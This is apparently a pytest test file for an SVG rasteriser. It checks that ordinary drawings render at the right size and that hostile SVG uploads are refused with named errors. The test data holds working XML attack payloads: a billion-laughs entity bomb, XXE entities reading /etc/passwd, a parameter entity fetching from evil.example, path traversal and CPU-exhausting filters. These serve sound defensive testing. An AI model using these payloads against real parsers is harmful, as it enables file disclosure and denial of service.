"""SVG rasterising: real drawings render; hostile documents are refused naming the problem."""

from __future__ import annotations

import base64
import io
import itertools
import time

import pytest
from PIL import Image

from mmsearch.errors import BadInput
from mmsearch.modelrepo.preprocessing import load_image
from mmsearch.modelrepo.svg import MAX_ELEMENTS, is_svg, rasterise

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
RED = f'<svg {NS} width="40" height="20"><rect width="40" height="20" fill="red"/></svg>'.encode()
PNG_1PX = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201a5dd2d5c0000000049454e44ae426082")).decode()


def _png(data: bytes) -> Image.Image:
    return Image.open(io.BytesIO(data))


def test_a_drawing_is_fitted_into_the_box_keeping_its_aspect():
    img = _png(rasterise(RED, box=100))
    assert img.size == (100, 50) and img.mode == "RGBA"
    assert img.convert("RGB").getpixel((50, 25)) == (255, 0, 0)


def test_load_image_reads_svg_bytes_like_any_image():
    img = load_image(RED, "q")
    assert img.mode == "RGB" and img.size[0] == 2 * img.size[1]


def test_sniffing():
    assert is_svg(RED) and is_svg(b"\xef\xbb\xbf<?xml version='1.0'?>\n<svg/>") and is_svg(b"<!-- x -->\n<svg>")
    assert not is_svg(b"\x89PNG\r\n") and not is_svg(b"<html><body/></html>") and not is_svg(b"")


def test_a_huge_declared_canvas_costs_what_a_small_one_does():
    big = f'<svg {NS} width="100000" height="100000"><circle cx="50000" cy="50000" r="40000"/></svg>'.encode()
    t0 = time.perf_counter()
    img = _png(rasterise(big, box=64))
    assert img.size == (64, 64) and time.perf_counter() - t0 < 2


def test_inline_images_and_fragments_are_allowed():
    doc = (f'<svg {NS} width="10" height="10"><defs><rect id="r" width="5" height="5"/></defs><use xlink:href="#r"/>'
           f'<image href="data:image/png;base64,{PNG_1PX}" width="10" height="10"/></svg>').encode()
    assert _png(rasterise(doc, box=10)).size == (10, 10)


def test_simple_internal_entities_as_illustrator_writes_them_are_allowed():
    doc = (b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
           b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'
           b'<svg xmlns="&ns_svg;" width="10" height="10"><rect width="10" height="10"/></svg>')
    assert _png(rasterise(doc, box=10)).size == (10, 10)


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
          b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>')
XXE = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')
PARAM = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
         b'<svg xmlns="http://www.w3.org/2000/svg"/>')


@pytest.mark.parametrize("doc, match", [
    (LAUGHS, "entity expansion refused"),
    (XXE, "external or parameter entity"),
    (PARAM, "external or parameter entity|malformed"),
    (f'<svg {NS}><image xlink:href="/etc/passwd" width="9" height="9"/></svg>'.encode(), "external references are not followed"),
    (f'<svg {NS}><image href="http://evil.example/x.png"/></svg>'.encode(), "external references"),
    (f'<svg {NS}><use xlink:href="file:///etc/hosts#x"/></svg>'.encode(), "external references"),
    (f'<svg {NS}><image href="beside.png"/></svg>'.encode(), "external references"),  # no trusted folder given
    (b"<html><svg/></html>", "not an SVG document"),
    (b"<svg><rect></svg>", "malformed SVG"),
    (f"<svg {NS}>".encode() + b"<g/>" * (MAX_ELEMENTS + 1) + b"</svg>", "elements"),
    (b"<svg>" + b" " * (5 * 1024 * 1024) + b"</svg>", "byte limit"),
])
def test_hostile_documents_are_refused_naming_the_problem(doc, match):
    with pytest.raises(BadInput, match=match):
        rasterise(doc, "upload.svg")


def test_a_file_beside_a_trusted_svg_may_be_referenced(tmp_path):
    doc = f'<svg {NS} width="10" height="10"><image href="beside.png" width="10" height="10"/></svg>'.encode()
    (tmp_path / "beside.png").write_bytes(base64.b64decode(PNG_1PX))
    assert _png(rasterise(doc, box=10, resources_dir=tmp_path)).size == (10, 10)
    with pytest.raises(BadInput, match="external references"):
        rasterise(doc.replace(b"beside.png", b"../beside.png"), box=10, resources_dir=tmp_path)


def test_svg_upload_through_load_image_names_the_input():
    with pytest.raises(BadInput, match="^query: .*entity"):
        load_image(LAUGHS.replace(b"<?xml", b"<?xml"), "query")


def test_given_its_models_short_edge_a_drawing_is_rendered_at_that_size_not_in_the_full_box():
    from mmsearch.modelrepo.svg import RENDER_BOX, declared_aspect, render_box

    assert _png(rasterise(RED, short_edge=64)).size == (128, 64)  # 2:1, short edge 64: fitted into 128, not 512
    tall = f'<svg {NS} viewBox="0 0 30 90"><rect width="30" height="90" fill="blue"/></svg>'.encode()  # aspect from viewBox
    assert _png(rasterise(tall, short_edge=50)).size == (50, 150)
    # the full box is the most any render gets: a long strip keeps the old render (its short edge below the model's)
    strip = f'<svg {NS} width="1000" height="10"><rect width="1000" height="10"/></svg>'.encode()
    w, h = _png(rasterise(strip, short_edge=224)).size
    assert w == RENDER_BOX and h <= 6
    assert _png(rasterise(RED)).size == (RENDER_BOX, RENDER_BOX // 2)  # no edge given (the web page): the full box
    # a size the root does not tell (percentages, no viewBox): the full box, as before
    assert declared_aspect({"width": "100%", "height": "100%"}) is None and render_box(None, 224) == RENDER_BOX
    assert declared_aspect({"width": "128pt", "height": "64pt"}) == 2.0 and declared_aspect({"viewBox": "0,0,0,10"}) is None
    assert render_box(1.0, 224) == 224 and render_box(0.5, 100) == 200 and render_box(3.0, 224) == RENDER_BOX
    # sizes no aspect can be taken from (overflow, infinities, not-a-number, a ratio that underflows): none
    for attrs in ({"width": "1e400", "height": "1"}, {"width": "1e400", "height": "1e400"}, {"viewBox": "0 0 inf 1"},
                  {"viewBox": "0 0 nan 1"}, {"width": "1e-200", "height": "1e200"}, {"width": "0", "height": "5"}):
        assert declared_aspect(attrs) is None, attrs
    huge = f'<svg {NS} width="1e400" height="1"><rect width="1" height="1"/></svg>'.encode()
    try:  # whatever resvg makes of it, the caller meets a render or a BadInput, never an arithmetic error
        rasterise(huge, "huge.svg", short_edge=64)
    except BadInput:
        pass


def test_a_declared_size_that_misleads_gets_the_full_box():
    # em units are not read here, so the viewBox (square) is taken; resvg sizes it 4:1 (8em x 2em), and the
    # render fitted into the model's 40 comes out 10 high: it is made again in the full box
    odd = f'<svg {NS} width="8em" height="2em" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>'.encode()
    assert _png(rasterise(odd, short_edge=40)).size == (512, 128)


def test_load_image_renders_an_svg_query_at_the_models_edge(monkeypatch):
    import mmsearch.modelrepo.preprocessing as pre

    boxes: list[int | None] = []
    real = pre.rasterise
    monkeypatch.setattr(pre, "rasterise", lambda data, name, **kw: boxes.append(kw.get("short_edge")) or real(data, name, **kw))
    assert load_image(RED, "query", short_edge=32).size == (64, 32) and boxes == [32]


def test_point_units_render_at_96_dpi():
    doc = f'<svg {NS} width="128pt" height="64pt"><rect width="10" height="10"/></svg>'.encode()  # many stamps use pt
    w, h = _png(rasterise(doc, box=100)).size
    assert w == 100 and abs(h - 50) <= 1


def test_a_costly_render_is_stopped_and_refused_without_stalling_the_process(monkeypatch):
    """A few hundred bytes of filters can cost minutes of CPU: the renderer process is killed at the limit."""
    import threading

    import mmsearch.modelrepo.svg as S

    monkeypatch.setattr(S, "RENDER_TIMEOUT_S", 2.0)
    monkeypatch.setattr(S, "RENDER_CPU_S", 2)
    rects = "".join(f'<rect x="{i}" width="100000" height="100000" filter="url(#f)"/>' for i in range(20))
    doc = (f'<svg {NS} width="100000" height="100000"><filter id="f"><feGaussianBlur stdDeviation="50"/>'
           f'<feMorphology radius="40"/></filter>{rects}</svg>').encode()
    ticks = []
    stop = threading.Event()
    ticker = threading.Thread(target=lambda: [ticks.append(time.perf_counter()) or stop.wait(0.01) for _ in iter(stop.is_set, True)])
    ticker.start()
    t0 = time.perf_counter()
    try:
        with pytest.raises(BadInput, match="exceeded its limits"):
            rasterise(doc, "upload.svg")
    finally:
        stop.set()
        ticker.join()
    assert time.perf_counter() - t0 < 6
    gaps = [b - a for a, b in itertools.pairwise(ticks)]
    assert gaps and max(gaps) < 0.5  # the GIL was never held by the render: other threads kept running


def test_a_huge_embedded_bitmap_is_refused_and_the_process_survives():
    img = Image.new("1", (24000, 24000))
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    b64 = base64.b64encode(buf.getvalue()).decode()
    doc = f'<svg {NS} width="10" height="10"><image href="data:image/png;base64,{b64}" width="10" height="10"/></svg>'.encode()
    with pytest.raises(BadInput, match="limits|cannot be rendered"):
        rasterise(doc, "upload.svg", box=10)
    assert _png(rasterise(RED, box=10)).size == (10, 5)  # and the next render works


def test_the_declared_encoding_is_honoured():
    doc = ('<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
           '<title>caf\u00e9</title><rect width="10" height="10"/></svg>').encode("latin-1")
    assert _png(rasterise(doc, box=10)).size == (10, 10)
    with pytest.raises(BadInput, match="unknown encoding.*klingon"):
        rasterise(doc.replace(b"ISO-8859-1", b"klingon"), box=10)
    with pytest.raises(BadInput, match="malformed SVG|not valid utf-8"):  # expat meets the bad byte first
        rasterise(RED.replace(b"<rect", b"<!-- \xff --><rect"), box=10)
